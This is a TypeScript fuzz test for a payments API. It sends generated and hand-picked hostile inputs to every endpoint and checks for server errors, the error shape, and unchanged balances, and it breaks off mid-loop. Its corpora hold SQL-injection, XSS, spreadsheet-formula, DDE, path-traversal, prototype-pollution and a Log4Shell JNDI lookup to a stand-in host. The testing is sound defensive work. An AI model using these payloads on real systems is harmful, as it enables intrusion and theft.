// Hostile input for every operation of the API (issue 7): the OpenAPI document's operations plus
// Better Auth's allow-list, each sent generated and hand-picked hostile values in its path, query,
// headers and body, as anonymous, customer and admin. Whatever comes in, the answer is never a 5xx,
// every 4xx has Ferry's error shape, and requests that were refused changed no balance, ledger row
// or row count. `FUZZ_REQUESTS` sets the budget (3,000 in CI; `npm run fuzz` goes deeper) and
// `FUZZ_SEED` the seed, so a failure replays exactly.
import { randomUUID } from "node:crypto";
import fc from "fast-check";
import type { LightMyRequestResponse } from "fastify";
import { sql } from "kysely";
import { afterAll, beforeAll, expect, test } from "vitest";
import { z } from "zod";
import { encodeCursor } from "../../apps/server/src/db/cursor.ts";
import { recordHardening } from "../support/hardening-results.ts";
import {
  authEndpoints,
  type Customer,
  createCustomer,
  createPersona,
  createSessionCookie,
  hasErrorShape,
  isSessionAlive,
  VALID_BIC,
  VALID_EVM_ADDRESS,
  VALID_IBAN,
} from "./api-surface.ts";
import {
  type BareUser,
  buildTestApp,
  GOOD_PASSWORD,
  insertBareUsers,
  ORIGIN,
  randomIp,
  type SessionUser,
  type TestApp,
} from "./helpers.ts";

const REQUEST_BUDGET = Number(process.env.FUZZ_REQUESTS ?? 3_000);
const SEED = Number(process.env.FUZZ_SEED ?? 20_260_507);
/** Requests between two snapshots of the fuzzing users' money and rows. */
const BATCH_SIZE = 10;
/** Requests in flight at once (the app's pool has 8 connections). */
const CONCURRENCY = 4;
const MAX_EXAMPLES = 25;

// ---------------------------------------------------------------------------------------------
// Operations: what can be sent where.
// ---------------------------------------------------------------------------------------------

interface JsonSchema {
  readonly type?: string | readonly string[];
  readonly properties?: Readonly<Record<string, JsonSchema>>;
  readonly required?: readonly string[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly oneOf?: readonly JsonSchema[];
  readonly anyOf?: readonly JsonSchema[];
  readonly allOf?: readonly JsonSchema[];
  readonly items?: JsonSchema;
  readonly format?: string;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly default?: unknown;
}

type Persona = "anonymous" | "customer" | "admin";
type Location = "path" | "query" | "header";

interface Parameter {
  readonly name: string;
  readonly in: Location;
  readonly schema: JsonSchema;
  readonly required: boolean;
}

interface Operation {
  readonly method: "GET" | "POST" | "PUT" | "PATCH" | "DELETE";
  /** OpenAPI form: `/api/v1/transfers/{transferId}`. */
  readonly path: string;
  readonly parameters: readonly Parameter[];
  readonly body?: JsonSchema;
  /** The persona whose requests get past authentication to the operation's validation. */
  readonly persona: Persona;
}

interface OpenApiDocument {
  readonly components?: { readonly schemas?: Record<string, unknown> };
  readonly paths: Record<
    string,
    Record<
      string,
      {
        parameters?: { name: string; in: string; schema: JsonSchema; required?: boolean }[];
        requestBody?: { content?: Record<string, { schema: JsonSchema }> };
      }
    >
  >;
}

/** The persona that reaches an operation's rules: admin routes need an admin, /api/v1 a customer. */
function personaFor(path: string, isSignedInOnly: boolean): Persona {
  if (path.startsWith("/api/v1/admin/")) {
    return "admin";
  }
  if (isSignedInOnly || (path.startsWith("/api/v1/") && path !== "/api/v1/auth/sign-up")) {
    return "customer";
  }
  return "anonymous";
}

const COMPONENT_PREFIX = "#/components/schemas/";

/** `value` with every `$ref` to a named component schema replaced by the schema (the contracts have no cycles). */
function inlineRefs(value: unknown, schemas: Record<string, unknown>): unknown {
  if (Array.isArray(value)) {
    return value.map((item) => inlineRefs(item, schemas));
  }
  if (value === null || typeof value !== "object") {
    return value;
  }
  const { $ref, ...rest } = value as { $ref?: unknown };
  const inlined = Object.fromEntries(Object.entries(rest).map(([key, child]) => [key, inlineRefs(child, schemas)]));
  if (typeof $ref === "string" && $ref.startsWith(COMPONENT_PREFIX)) {
    return { ...(inlineRefs(schemas[$ref.slice(COMPONENT_PREFIX.length)], schemas) as object), ...inlined };
  }
  return inlined;
}

/** The document's operations, but Better Auth's: `authOperations` lists those with the persona each needs. */
function operationsOf(document: OpenApiDocument): Operation[] {
  const operations: Operation[] = [];
  const paths = inlineRefs(document.paths, document.components?.schemas ?? {}) as OpenApiDocument["paths"];
  for (const [path, methods] of Object.entries(paths).filter(([path]) => !path.startsWith("/api/auth/"))) {
    for (const [method, operation] of Object.entries(methods)) {
      operations.push({
        method: method.toUpperCase() as Operation["method"],
        path,
        parameters: (operation.parameters ?? [])
          .filter((parameter) => ["path", "query", "header"].includes(parameter.in))
          .map((parameter) => ({
            name: parameter.name,
            in: parameter.in as Location,
            schema: parameter.schema,
            required: parameter.required ?? false,
          })),
        body: operation.requestBody?.content?.["application/json"]?.schema,
        persona: personaFor(path, false),
      });
    }
  }
  return operations;
}

/** The query strings Better Auth's GET endpoints read (their allow-list entries declare no body). */
const AUTH_QUERY_PARAMETERS: Record<string, readonly string[]> = {
  "/api/auth/verify-email": ["token", "callbackURL"],
  "/api/auth/get-session": ["disableCookieCache"],
};

/** Better Auth's allow-list, with the persona that gets past its guard; its bodies are core schemas. */
function authOperations(): Operation[] {
  return authEndpoints().map((endpoint) => ({
    method: endpoint.method,
    path: endpoint.url,
    parameters: (AUTH_QUERY_PARAMETERS[endpoint.url] ?? []).map((name) => ({
      name,
      in: "query" as const,
      schema: { type: "string" },
      required: false,
    })),
    body: endpoint.body
      ? (z.toJSONSchema(endpoint.body, { io: "input", unrepresentable: "any" }) as JsonSchema)
      : undefined,
    persona: personaFor(endpoint.url, endpoint.isSignedInOnly),
  }));
}

// ---------------------------------------------------------------------------------------------
// Values: plausible ones, so a request gets past the fields it does not attack, and hostile ones.
// ---------------------------------------------------------------------------------------------

/** A JSON token written as is (`NaN`, `1e999`), which JSON.stringify cannot produce. */
class RawJson {
  constructor(readonly text: string) {}
}

/** Query or path text that is sent already percent-encoded (`%00`, a broken `%E0%A4`). */
class RawUrl {
  constructor(readonly text: string) {}
}

interface World {
  readonly customer: Customer;
  readonly other: Customer;
  readonly admin: SessionUser;
  /** A customer with no session, whom admin requests may ban and unban. */
  readonly target: BareUser;
}

const HUGE = "A".repeat(100_000);
const TEXT_CORPUS: readonly unknown[] = [
  "a\u0000b",
  "\u0000",
  "x\u0001\u0002\u0003y",
  "line\nbreak",
  "carriage\rreturn",
  "tab\there",
  "del\u007f",
  "next line\u0085",
  "csi\u009b31m",
  HUGE,
  "\u0000".repeat(5_000),
  "\u202Eevil\u202C",
  "emoji 🏦💸",
  "lone \uD800 high",
  "lone \uDFFF low",
  "\uFEFFbom",
  "' OR 1=1--",
  "'; DROP TABLE transfers;--",
  "<script>alert(1)</script>",
  '=HYPERLINK("https://evil.example","click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "$" + "{jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
  "%00",
  "%s%n%x",
  "",
  " ",
  "null",
  "NaN",
];
const NON_STRING_CORPUS: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  -1e308,
  5e-324,
  2 ** 53 + 1,
  new RawJson("NaN"),
  new RawJson("Infinity"),
  new RawJson("1e99999"),
  [],
  ["a", "b"],
  {},
  { $gt: "" },
  { __proto__: null, toString: "x" },
];
const AMOUNT_CORPUS: readonly unknown[] = [
  "0.001",
  "1e5",
  "99999999999999999999999999999999999999999",
  `1${"0".repeat(29)}`,
  `1${"0".repeat(28)}`,
  "999999999999999999999999999999.999999999999999999",
  // Issue 24: within the old bound, this USD amount overflowed NUMERIC(38,0) once quoted in wei.
  "9999999999999999999999999999.99",
  "1000000000.01",
  "-1",
  "-5.00",
  "0",
  "0.00",
  ".5",
  "12.",
  "1,000.00",
  "１２",
  "0x10",
  " 12.50 ",
  1.5,
  1e308,
  new RawJson("NaN"),
];

function cursorOf(text: string): string {
  return Buffer.from(text, "utf8").toString("base64url");
}

function idCorpus(world: World): readonly unknown[] {
  const { other, admin } = world;
  return [
    "not-a-uuid",
    "0",
    "-1",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    randomUUID(),
    randomUUID().toUpperCase(),
    `${randomUUID()}\u0000`,
    new RawUrl(`${randomUUID()}%00`),
    new RawUrl("%"),
    new RawUrl("%E0%A4%A"),
    new RawUrl("..%2F..%2Fadmin"),
    "x".repeat(5_000),
    other.owns.recipientId,
    other.owns.paymentMethodId,
    other.owns.transferId,
    other.owns.notificationId,
    other.owns.depositId,
    other.userId,
    admin.userId,
  ];
}

function cursorCorpus(): readonly unknown[] {
  const id = randomUUID();
  return [
    cursorOf("junk"),
    cursorOf("\u0000\u0001\u0002"),
    cursorOf(`+300000-01-01T00:00:00Z|${id}`),
    cursorOf(`-010000-01-01T00:00:00Z|${id}`),
    cursorOf(`2026-02-31T00:00:00Z|${id}`),
    cursorOf(`March 7, 2026|${id}`),
    cursorOf(`2026-01-01T00:00:00Z|' OR 1=1--`),
    cursorOf(`2026-01-01T00:00:00Z|${id}\u0000`),
    cursorOf(`2026-01-01T00:00:00Z|t${"-".repeat(36)}`),
    cursorOf(`2026-01-01T00:00:00Z|${id}|extra`),
    "!!!not base64!!!",
    new RawUrl("%00"),
  ];
}

/** Values aimed at what a field means, by its name: amounts, cursors and ids have their own corpus. */
function semanticCorpus(name: string, world: World): readonly unknown[] {
  if (name === "amount") {
    return AMOUNT_CORPUS;
  }
  if (name === "cursor") {
    return cursorCorpus();
  }
  if (/Id$/.test(name) || name === "token") {
    return idCorpus(world);
  }
  if (name === "idempotency-key") {
    return ["", "short", "x".repeat(10_000), "key with spaces", "' OR 1=1--", "next line\u0085", "fuzz-same-key-1"];
  }
  return [];
}

/** A plausible value for a field, by its name: the one that gets a request past this field. */
function plausibleByName(name: string, world: World): unknown {
  const { customer, other } = world;
  const byName: Record<string, unknown> = {
    email: `fuzz-${randomUUID()}@ferry.test`,
    recipientEmail: other.email,
    password: GOOD_PASSWORD,
    newPassword: GOOD_PASSWORD,
    currentPassword: GOOD_PASSWORD,
    code: "123456",
    otp: "123456",
    amount: "1.00",
    name: "Fuzz Name",
    bankName: "Deutsche Bank",
    country: "DE",
    accountNumber: VALID_IBAN,
    swiftCode: VALID_BIC,
    accountHolderName: "Ada Lovelace",
    cryptoAddress: VALID_EVM_ADDRESS,
    firstName: "Ada",
    lastName: "Lovelace",
    phone: "+44 20 7946 0958",
    address: "12 Analytical Row",
    city: "London",
    postalCode: "NW1 6XE",
    transactionHash: `0x${"ab".repeat(32)}`,
    recipientId: customer.owns.recipientId,
    paymentMethodId: customer.owns.paymentMethodId,
    transferId: customer.owns.transferId,
    notificationId: customer.owns.notificationId,
    depositId: customer.owns.depositId,
    userId: world.target.userId,
    cursor: encodeCursor({ createdAt: new Date().toISOString(), id: randomUUID() }),
    limit: 20,
    search: "ada",
    token: "aZ09aZ09aZ09aZ09aZ09aZ09",
    callbackURL: "/dashboard",
    redirectTo: "/reset-password",
    "idempotency-key": `fuzz-${randomUUID()}`,
    memo: "rent",
    adminNotes: "matched the bank statement",
    // Identity verification: uploads nobody made (the submission is refused), a reason for a rejection.
    governmentIdDocumentId: randomUUID(),
    proofOfAddressDocumentId: randomUUID(),
    documentId: randomUUID(),
    reason: "The photo is blurred",
    rememberMe: false,
    revokeOtherSessions: false,
  };
  return byName[name];
}

function typeOf(schema: JsonSchema): string | undefined {
  return Array.isArray(schema.type) ? schema.type[0] : (schema.type as string | undefined);
}

/** A valid-looking value for `schema`: by name where known, otherwise the schema's simplest value. */
/**
 * Choices of an enum that make a request get further: the customer's recipient and payment method
 * are in US dollars, and Ethereum carries ether, whose 18 decimals make the largest amounts.
 */
const PREFERRED_CHOICES: Record<string, readonly unknown[]> = {
  currency: ["USD", "ETH"],
  network: ["ethereum"],
  cryptoNetwork: ["ethereum"],
};

/** A plausible value for `schema`; `branch` picks which variant of a union (a bank or a crypto body). */
function plausibleValue(schema: JsonSchema, name: string, world: World, branch = 0): unknown {
  const variants = schema.oneOf ?? schema.anyOf;
  if (variants) {
    return plausibleValue(variants[branch % variants.length], name, world);
  }
  if (schema.allOf?.length) {
    return plausibleValue({ ...schema, allOf: undefined, ...schema.allOf[0] }, name, world);
  }
  if (schema.enum?.length) {
    const preferred = (PREFERRED_CHOICES[name] ?? []).find((choice) => schema.enum?.includes(choice));
    return preferred ?? schema.enum[0];
  }
  if (schema.const !== undefined) {
    return schema.const;
  }
  const known = plausibleByName(name, world);
  if (known !== undefined) {
    return known;
  }
  switch (typeOf(schema)) {
    case "object":
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, property]) => [key, plausibleValue(property, key, world)]),
      );
    case "array":
      return [];
    case "integer":
    case "number":
      return schema.minimum ?? 1;
    case "boolean":
      return false;
    default:
      return schema.format === "email" ? `fuzz-${randomUUID()}@ferry.test` : "fuzz";
  }
}

/** Hostile values for one field: every kind of text and non-text, and those aimed at what it means. */
function hostileArbitrary(name: string, world: World): fc.Arbitrary<unknown> {
  const semantic = semanticCorpus(name, world);
  const arbitraries: fc.WeightedArbitrary<unknown>[] = [
    { weight: 3, arbitrary: fc.constantFrom(...TEXT_CORPUS) },
    { weight: 1, arbitrary: fc.constantFrom(...NON_STRING_CORPUS) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
    {
      weight: 1,
      arbitrary: fc.oneof(
        fc.double(),
        fc.integer(),
        fc.bigInt().map((value) => value.toString()),
      ),
    },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  ];
  if (semantic.length > 0) {
    arbitraries.push({ weight: 4, arbitrary: fc.constantFrom(...semantic) });
  }
  return fc.oneof(...arbitraries);
}

/** Absent optional fields are left out of the object altogether. */
const ABSENT = Symbol("absent");

/**
 * Values for `schema` that are mostly plausible with hostile parts: each field is plausible, hostile,
 * or (if optional) absent; objects may carry extra fields; a union takes any of its branches.
 */
function valueArbitrary(schema: JsonSchema, name: string, world: World, depth = 0): fc.Arbitrary<unknown> {
  const variants = schema.oneOf ?? schema.anyOf;
  if (variants && depth < 4) {
    return fc.oneof(...variants.map((variant) => valueArbitrary(variant, name, world, depth + 1)));
  }
  const hostile = hostileArbitrary(name, world);
  if (typeOf(schema) === "object" && schema.properties && depth < 4) {
    const required = new Set(schema.required ?? []);
    const fields = Object.fromEntries(
      Object.entries(schema.properties).map(([key, property]) => {
        const field = valueArbitrary(property, key, world, depth + 1);
        const choices: fc.WeightedArbitrary<unknown>[] = [{ weight: 8, arbitrary: field }];
        choices.push({ weight: required.has(key) ? 1 : 2, arbitrary: fc.constant(ABSENT) });
        return [key, fc.oneof(...choices)];
      }),
    );
    const extras = fc.oneof(
      { weight: 6, arbitrary: fc.constant({}) },
      {
        weight: 1,
        arbitrary: fc.constantFrom<Record<string, unknown>>(
          { role: "admin" },
          { userId: world.other.userId },
          { isAdmin: true, banned: false },
          { emailVerified: true, kycStatus: "approved" },
        ),
      },
    );
    const object = fc.tuple(fc.record(fields), extras).map(([record, extra]) => {
      const present = Object.entries(record).filter(([, value]) => value !== ABSENT);
      return { ...Object.fromEntries(present), ...extra };
    });
    return fc.oneof({ weight: 12, arbitrary: object }, { weight: 1, arbitrary: hostile });
  }
  const plausible = fc.oneof(
    fc.constant(plausibleValue(schema, name, world)),
    ...(schema.enum?.length ? [fc.constantFrom(...schema.enum)] : []),
  );
  return fc.oneof({ weight: 5, arbitrary: plausible }, { weight: 3, arbitrary: hostile });
}

// ---------------------------------------------------------------------------------------------
// Requests.
// ---------------------------------------------------------------------------------------------

interface FuzzRequest {
  readonly persona: Persona;
  readonly method: Operation["method"];
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly payload?: string;
  /** What was attacked, for the report. */
  readonly label: string;
}

function toJsonText(value: unknown): string {
  if (value instanceof RawJson) {
    return value.text;
  }
  if (value instanceof RawUrl) {
    return JSON.stringify(value.text);
  }
  if (Array.isArray(value)) {
    return `[${value.map(toJsonText).join(",")}]`;
  }
  if (value !== null && typeof value === "object") {
    const entries = Object.entries(value).map(([key, item]) => `${JSON.stringify(key)}:${toJsonText(item)}`);
    return `{${entries.join(",")}}`;
  }
  return JSON.stringify(value) ?? "null";
}

/** Percent-encodes for a URL; text that is not well-formed UTF-16 goes as raw, invalid UTF-8 bytes. */
function encodeForUrl(value: unknown): string {
  if (value instanceof RawUrl) {
    return value.text;
  }
  const text = typeof value === "string" ? value : value instanceof RawJson ? value.text : JSON.stringify(value);
  try {
    return encodeURIComponent(text ?? "");
  } catch {
    return "%ED%A0%80";
  }
}

function queryPart(name: string, value: unknown): string {
  if (Array.isArray(value)) {
    return value.map((item) => `${encodeURIComponent(name)}=${encodeForUrl(item)}`).join("&");
  }
  if (value !== null && typeof value === "object" && !(value instanceof RawJson) && !(value instanceof RawUrl)) {
    const entries = Object.entries(value);
    return entries.length === 0
      ? `${encodeURIComponent(name)}[]=`
      : entries
          .map(([key, item]) => `${encodeURIComponent(name)}[${encodeForUrl(key)}]=${encodeForUrl(item)}`)
          .join("&");
  }
  return `${encodeURIComponent(name)}=${encodeForUrl(value)}`;
}

/** Node refuses to send a header with characters outside tab, printable ASCII and Latin-1. */
function isSendableHeader(value: unknown): value is string {
  return typeof value === "string" && /^[\t\u0020-\u007e\u0080-\u00ff]*$/.test(value);
}

type Values = { path: Record<string, unknown>; query: Record<string, unknown>; header: Record<string, unknown> };

function buildRequest(
  operation: Operation,
  persona: Persona,
  values: Values,
  body: unknown,
  label: string,
): FuzzRequest | null {
  let url = operation.path;
  for (const [name, value] of Object.entries(values.path)) {
    url = url.replace(`{${name}}`, encodeForUrl(value));
  }
  const query = Object.entries(values.query)
    .filter(([, value]) => value !== ABSENT && value !== undefined)
    .map(([name, value]) => queryPart(name, value));
  if (query.length > 0) {
    url = `${url}?${query.join("&")}`;
  }
  const headers: Record<string, string> = {};
  for (const [name, value] of Object.entries(values.header)) {
    if (value === ABSENT) {
      continue;
    }
    if (!isSendableHeader(value)) {
      return null;
    }
    headers[name] = value;
  }
  const hasBody = operation.method !== "GET" && operation.method !== "DELETE" && body !== ABSENT;
  if (hasBody) {
    headers["content-type"] = "application/json";
  }
  return {
    persona,
    method: operation.method,
    url,
    headers,
    payload: hasBody ? toJsonText(body ?? {}) : undefined,
    label,
  };
}

function plausibleValues(operation: Operation, world: World): Values {
  const values: Values = { path: {}, query: {}, header: {} };
  for (const parameter of operation.parameters) {
    const value = plausibleValue(parameter.schema, parameter.name, world);
    values[parameter.in][parameter.name] = parameter.required || parameter.in === "path" ? value : ABSENT;
  }
  return values;
}

/** The places in a plausible body that hold a value: `["target", "recipientId"]`, `["amount"]`. */
function leafPaths(value: unknown, prefix: string[] = []): string[][] {
  if (value !== null && typeof value === "object" && !Array.isArray(value)) {
    const entries = Object.entries(value);
    return entries.length === 0 ? [prefix] : entries.flatMap(([key, item]) => leafPaths(item, [...prefix, key]));
  }
  return [prefix];
}

function withValueAt(value: unknown, path: readonly string[], replacement: unknown): unknown {
  if (path.length === 0) {
    return replacement;
  }
  const [head, ...rest] = path;
  const object = (value ?? {}) as Record<string, unknown>;
  return { ...object, [head]: withValueAt(object[head], rest, replacement) };
}

/** The values every field meets in the sweep, one field at a time, the rest of the request valid. */
const SWEEP_CORPUS: readonly unknown[] = [
  "a\u0000b",
  "x\u0001y",
  "next line\u0085",
  "line\nbreak",
  HUGE,
  "lone \uD800 high",
  "' OR 1=1--",
  1e308,
  null,
  {},
];

/** Whole bodies that are not what any endpoint expects, with the content types they come in. */
const RAW_BODIES: readonly { payload: string; contentType?: string }[] = [
  { payload: "" },
  { payload: "{" },
  { payload: "null" },
  { payload: "[]" },
  { payload: '"text"' },
  { payload: "NaN" },
  { payload: '{"__proto__":{"role":"admin"}}' },
  { payload: '{"constructor":{"prototype":{"role":"admin"}}}' },
  { payload: `${"[".repeat(5_000)}${"]".repeat(5_000)}` },
  { payload: `{"a":"${"B".repeat(1_200_000)}"}` },
  { payload: "amount=1&currency=USD", contentType: "application/x-www-form-urlencoded" },
  { payload: "hello", contentType: "text/plain" },
  { payload: '{"a":1}', contentType: "application/json; charset=utf-16" },
  { payload: "\u0000\u0001\u0002", contentType: "application/json" },
  // Malformed multipart (issue 24): no boundary, a boundary that never comes, a body cut off mid-part.
  { payload: '--x\r\nContent-Disposition: form-data; name="file"\r\n\r\nabc', contentType: "multipart/form-data" },
  { payload: "no parts here", contentType: "multipart/form-data; boundary=ferry" },
  {
    payload:
      '--ferry\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n\u0089PNG',
    contentType: "multipart/form-data; boundary=ferry",
  },
  {
    payload: '--ferry\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--ferry--\r\n',
    contentType: "multipart/form-data; boundary=ferry",
  },
];

/**
 * One field at a time, every field of every operation meets the sweep corpus and the corpus for
 * what it means (amounts, cursors, ids), as the persona that reaches the operation's validation.
 */
/** The values the other variants of a union body meet: less than the first, but every semantic one. */
const SECOND_VARIANT_CORPUS: readonly unknown[] = ["a\u0000b", "next line\u0085", HUGE, null];

function sweepRequests(operations: readonly Operation[], world: World): FuzzRequest[] {
  const requests: FuzzRequest[] = [];
  for (const operation of operations) {
    const base = plausibleValues(operation, world);
    const body = operation.body ? plausibleValue(operation.body, "body", world) : ABSENT;
    const variants = operation.body?.oneOf ?? operation.body?.anyOf ?? [];
    for (let branch = 1; branch < variants.length; branch += 1) {
      const variant = plausibleValue(operation.body ?? {}, "body", world, branch);
      for (const path of leafPaths(variant)) {
        for (const hostile of [...SECOND_VARIANT_CORPUS, ...semanticCorpus(path.at(-1) ?? "body", world)]) {
          const label = `body (variant ${branch + 1}) ${path.join(".")}`;
          const request = buildRequest(operation, operation.persona, base, withValueAt(variant, path, hostile), label);
          if (request) {
            requests.push(request);
          }
        }
      }
    }
    for (const parameter of operation.parameters) {
      for (const hostile of [...SWEEP_CORPUS, ...semanticCorpus(parameter.name, world)]) {
        const values: Values = { ...base, [parameter.in]: { ...base[parameter.in], [parameter.name]: hostile } };
        const request = buildRequest(operation, operation.persona, values, body, `${parameter.in} ${parameter.name}`);
        if (request) {
          requests.push(request);
        }
      }
    }
    for (const path of body === ABSENT ? [] : leafPaths(body)) {
      const name = path.at(-1) ?? "body";
      for (const hostile of [...SWEEP_CORPUS, ...semanticCorpus(name, world)]) {
        const request = buildRequest(
          operation,
          operation.persona,
          base,
          withValueAt(body, path, hostile),
          `body ${path.join(".")}`,
        );
        if (request) {
          requests.push(request);
        }
      }
    }
    if (operation.method === "GET" || operation.method === "DELETE") {
      continue;
    }
    for (const raw of RAW_BODIES) {
      const request = buildRequest(operation, operation.persona, base, {}, "raw body");
      if (request) {
        requests.push({
          ...request,
          payload: raw.payload,
          headers: { ...request.headers, "content-type": raw.contentType ?? "application/json" },
        });
      }
    }
  }
  return requests;
}

const JUNK_COOKIES = [
  "better-auth.session_token=%00",
  "better-auth.session_token=' OR 1=1--",
  `better-auth.session_token=${"A".repeat(8_000)}`,
  "better-auth.session_token=abc.def; better-auth.two_factor=%00%01",
  "x_two_factor=1; better-auth.session_token=",
];

/** A request generated from an operation's schemas, from any persona, sometimes with junk around it. */
function randomRequestArbitrary(operation: Operation, world: World): fc.Arbitrary<FuzzRequest | null> {
  const parameterArbitrary = (parameter: Parameter) => {
    const value = valueArbitrary(parameter.schema, parameter.name, world);
    return parameter.required || parameter.in === "path"
      ? value
      : fc.oneof({ weight: 2, arbitrary: value }, { weight: 1, arbitrary: fc.constant(ABSENT) });
  };
  const parameters = fc.tuple(...operation.parameters.map(parameterArbitrary));
  const body = operation.body ? valueArbitrary(operation.body, "body", world) : fc.constant(ABSENT);
  const persona = fc.oneof(
    { weight: 3, arbitrary: fc.constant(operation.persona) },
    { weight: 1, arbitrary: fc.constantFrom<Persona>("anonymous", "customer", "admin") },
  );
  const noise = fc.record({
    cookie: fc.oneof(
      { weight: 9, arbitrary: fc.constant(undefined) },
      { weight: 1, arbitrary: fc.constantFrom(...JUNK_COOKIES) },
    ),
    origin: fc.oneof(
      { weight: 19, arbitrary: fc.constant(ORIGIN) },
      { weight: 1, arbitrary: fc.constantFrom("https://evil.example", "null", "%00") },
    ),
  });
  return fc.tuple(parameters, body, persona, noise).map(([parameterValues, bodyValue, who, extra]) => {
    const values: Values = { path: {}, query: {}, header: {} };
    operation.parameters.forEach((parameter, index) => {
      values[parameter.in][parameter.name] = parameterValues[index];
    });
    const request = buildRequest(operation, who, values, bodyValue, "generated");
    if (!request) {
      return null;
    }
    const headers: Record<string, string> = { ...request.headers, origin: extra.origin };
    if (extra.cookie && who === "anonymous") {
      headers.cookie = extra.cookie;
    }
    return { ...request, headers };
  });
}

// ---------------------------------------------------------------------------------------------
// Running and judging.
// ---------------------------------------------------------------------------------------------

let ferry: TestApp;
let world: World;
const cookies: Record<Exclude<Persona, "anonymous">, string> = { customer: "", admin: "" };

beforeAll(async () => {
  ferry = await buildTestApp({}, { maxConnections: 8 });
  const [payee, target] = await insertBareUsers(ferry.db, 2, "fuzz-payee");
  const customer = await createCustomer(ferry, "fuzz-customer", payee);
  const other = await createCustomer(ferry, "fuzz-other", payee);
  const admin = await createPersona(ferry, "fuzz-admin", true);
  world = { customer, other, admin, target };
  cookies.customer = customer.cookie;
  cookies.admin = admin.cookie;
}, 60_000);

afterAll(async () => {
  await ferry?.close();
});

async function sendFuzz(request: FuzzRequest): Promise<LightMyRequestResponse> {
  const headers: Record<string, string> = { origin: ORIGIN, ...request.headers };
  if (request.persona !== "anonymous") {
    headers.cookie = cookies[request.persona];
  }
  return ferry.app.inject({
    method: request.method,
    url: request.url,
    // A fresh client address per request: the per-address limits must not hide the validation.
    remoteAddress: randomIp(),
    headers,
    ...(request.payload === undefined ? {} : { payload: request.payload }),
  });
}

/**
 * The money and rows of the fuzzing users: ledger transfers touching their accounts (by state),
 * their balances and reserves, and how many transfers, recipients, payment methods, deposits (by
 * status) and notifications they have. Scoped to them, since other test files run alongside; the
 * admin's notifications are left out, because every admin is told of every deposit reported anywhere.
 */
async function snapshotState(): Promise<string> {
  const userIds = [world.customer.userId, world.other.userId, world.admin.userId, world.target.userId];
  const customerIds = [world.customer.userId, world.other.userId, world.target.userId];
  const result = await sql<{ state: unknown }>`
    WITH accounts AS (SELECT id FROM ledger_accounts WHERE owner_user_id = ANY(${userIds}::text[]))
    SELECT json_build_object(
      'ledger', (SELECT json_object_agg(state, n ORDER BY state) FROM (
        SELECT state, count(*) AS n FROM ledger_transfers
        WHERE debit_account_id IN (SELECT id FROM accounts) OR credit_account_id IN (SELECT id FROM accounts)
        GROUP BY state) l),
      'balances', (SELECT json_agg(json_build_array(owner_user_id, currency, balance::text, reserved::text)
        ORDER BY owner_user_id, currency, purpose) FROM ledger_accounts
        WHERE owner_user_id = ANY(${userIds}::text[]) AND (balance <> 0 OR reserved <> 0)),
      'transfers', (SELECT json_object_agg(status, n ORDER BY status) FROM (
        SELECT status, count(*) AS n FROM transfers
        WHERE sender_user_id = ANY(${userIds}::text[]) OR recipient_user_id = ANY(${userIds}::text[]) GROUP BY status) t),
      'recipients', (SELECT count(*) FROM recipients WHERE user_id = ANY(${userIds}::text[])),
      'paymentMethods', (SELECT count(*) FROM payment_methods WHERE user_id = ANY(${userIds}::text[])),
      'deposits', (SELECT json_object_agg(status, n ORDER BY status) FROM (
        SELECT status, count(*) AS n FROM deposits WHERE user_id = ANY(${userIds}::text[]) GROUP BY status) d),
      'notifications', (SELECT count(*) FROM notifications WHERE user_id = ANY(${customerIds}::text[]))
    ) AS state`.execute(ferry.db);
  return JSON.stringify(result.rows[0].state);
}

/** Sign-out and password changes end sessions; a persona gets a fresh one so the fuzz keeps reaching rules. */
async function keepSessionsAlive(): Promise<void> {
  const personas = [
    ["customer", world.customer.userId],
    ["admin", world.admin.userId],
  ] as const;
  for (const [persona, userId] of personas) {
    if (!(await isSessionAlive(ferry, cookies[persona]))) {
      cookies[persona] = await createSessionCookie(ferry, userId);
    }
  }
}

function describeRequest(request: FuzzRequest, response: LightMyRequestResponse): string {
  const payload = request.payload === undefined ? "" : ` ${JSON.stringify(request.payload.slice(0, 300))}`;
  return `${request.persona} ${request.method} ${request.url.slice(0, 160)} [${request.label}]${payload} -> ${response.statusCode} ${response.body.slice(0, 300)}`;
}

async function runInParallel<T, R>(items: readonly T[], limit: number, work: (item: T) => Promise<R>): Promise<R[]> {
  const results: R[] = new Array(items.length);
  let next = 0;
  const workers = Array.from({ length: Math.min(limit, items.length) }, async () => {
    while (next < items.length) {
      const index = next;
      next += 1;
      results[index] = await work(items[index]);
    }
  });
  await Promise.all(workers);
  return results;
}

const READ_ONLY = new Set(["GET", "HEAD"]);

test(
  "no hostile request gets a 5xx, every refusal has the error shape, and refusals change nothing",
  async () => {
    const document = ferry.app.swagger() as unknown as OpenApiDocument;
    const operations = [...operationsOf(document), ...authOperations()];
    // The document must list the API, or the fuzz would pass by sending nothing.
    expect(operations.length).toBeGreaterThan(30);

    const everyField = sweepRequests(operations, world);
    // Shuffled, so a budget smaller than the sweep still touches every operation.
    const sweep = fc.sample(
      fc.shuffledSubarray(everyField, { minLength: everyField.length, maxLength: everyField.length }),
      { seed: SEED, numRuns: 1 },
    )[0];
    const requests = sweep.slice(0, REQUEST_BUDGET);
    const generated = fc.oneof(...operations.map((operation) => randomRequestArbitrary(operation, world)));

    const serverErrors: string[] = [];
    const shapeless: string[] = [];
    const stateChanges: string[] = [];
    const statusCounts: Record<number, number> = {};
    let sent = 0;
    let pastTheGate = 0;
    let verifiedRefusals = 0;
    let batchIndex = 0;

    while (sent < REQUEST_BUDGET) {
      const batch =
        requests.length > sent
          ? requests.slice(sent, sent + BATCH_SIZE)
          : fc
              .sample(generated, { seed: SEED + batchIndex, numRuns: BATCH_SIZE * 2 })
              .filter((request): request is FuzzRequest => request !== null)
